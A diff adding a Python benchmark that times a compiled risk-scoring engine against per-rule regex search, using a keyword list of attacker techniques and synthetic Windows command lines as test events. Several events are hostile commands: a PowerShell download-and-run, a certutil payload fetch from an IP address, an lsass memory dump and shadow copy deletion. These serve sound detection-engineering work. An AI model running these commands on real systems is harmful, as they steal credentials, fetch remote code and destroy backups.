@@ -0,0 +1,131 @@
+"""
+Risk scoring benchmark: events/sec against rule count
+
+Scores synthetic command lines with the compiled engine and with one
+case-insensitive regex search per rule (the Logstash ruby filter's
+approach), checks both give the same score for every event, and prints
+events/sec for each rule count.
+
+Usage: cd backend && python -m scripts.bench_risk [--events N] [--rules 3,30,100,300,1000]
+"""
+
+import argparse
+import random
+import re
+import string
+import time
+from typing import List, Sequence
+
+from app.services.risk import DEFAULT_INDICATORS, CompiledRules, Indicator
+
+# Realistic indicators first; the rest of each rule set is random tokens
+_KNOWN = (
+    "mimikatz",
+    "sekurlsa::logonpasswords",
+    "-encodedcommand",
+    "-enc ",
+    "frombase64string",
+    "new-object net.webclient",
+    "certutil -urlcache",
+    "bitsadmin /transfer",
+    "rundll32.exe javascript:",
+    "regsvr32 /s /n /u /i:",
+    "mshta http",
+    "vssadmin delete shadows",
+    "wmic shadowcopy delete",
+    "bcdedit /set {default} recoveryenabled no",
+    "net user /add",
+    "net localgroup administrators",
+    "schtasks /create",
+    "reg add hklm\\software\\microsoft\\windows\\currentversion\\run",
+    "procdump -ma lsass",
+    "comsvcs.dll, minidump",
+    "-windowstyle hidden",
+    "-nop",
+    "bypass",
+    "whoami /priv",
+    "nltest /domain_trusts",
+    "psexec",
+    "wevtutil cl",
+    "add-mppreference -exclusionpath",
+    "set-mppreference -disablerealtimemonitoring",
+    "invoke-mimikatz",
+)
+
+_COMMANDS = (
+    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
+    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
+    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
+    "powershell.exe -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+    "cmd.exe /c whoami /priv && net localgroup administrators",
+    "C:\\Windows\\System32\\certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe",
+    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
+    "C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
+    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -Command Get-Process',
+    "vssadmin.exe delete shadows /all /quiet",
+)
+
+
+def build_rules(count: int, seed: int = 0) -> List[Indicator]:
+    rng = random.Random(seed)
+    rules = list(DEFAULT_INDICATORS)
+    for pattern in _KNOWN:
+        if len(rules) >= count:
+            break
+        rules.append(Indicator(pattern, pattern, rng.randrange(5, 40)))
+    while len(rules) < count:
+        token = "".join(rng.choices(string.ascii_lowercase + ".-_", k=rng.randrange(5, 14)))
+        rules.append(Indicator(f"token-{len(rules)}", token, rng.randrange(1, 30)))
+    return rules[:count]
+
+
+def build_events(count: int, seed: int = 0) -> List[str]:
+    rng = random.Random(seed)
+    return [f"{rng.choice(_COMMANDS)} --session {rng.getrandbits(32):08x}" for _ in range(count)]
+
+
+def naive_score(rules: Sequence[Indicator], events: Sequence[str]) -> List[int]:
+    compiled = [(re.compile(re.escape(rule.pattern), re.IGNORECASE), rule.weight) for rule in rules]
+    return [
+        sum(weight for pattern, weight in compiled if pattern.search(command)) for command in events
+    ]
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--events", type=int, default=50_000)
+    parser.add_argument("--rules", default="3,30,100,300,1000")
+    args = parser.parse_args()
+
+    events = build_events(args.events)
+    counts = [int(count) for count in args.rules.split(",")]
+    print(
+        f"{'rules':>6} {'compile ms':>11} {'engine ev/s':>12} {'per-rule ev/s':>14} {'speedup':>8}"
+    )
+    failed = False
+    for count in counts:
+        rules = build_rules(count)
+        started = time.perf_counter()
+        compiled = CompiledRules(rules)
+        compile_ms = (time.perf_counter() - started) * 1000
+
+        started = time.perf_counter()
+        scores = [compiled.score(command) for command in events]
+        engine = len(events) / (time.perf_counter() - started)
+
+        started = time.perf_counter()
+        expected = naive_score(rules, events)
+        naive = len(events) / (time.perf_counter() - started)
+
+        failed = failed or scores != expected
+        print(
+            f"{count:>6} {compile_ms:>11.1f} {engine:>12,.0f} {naive:>14,.0f} "
+            f"{engine / naive:>7.1f}x"
+        )
+    if failed:
+        print("score mismatch against per-rule search")
+        raise SystemExit(1)
+
+
+if __name__ == "__main__":
+    main()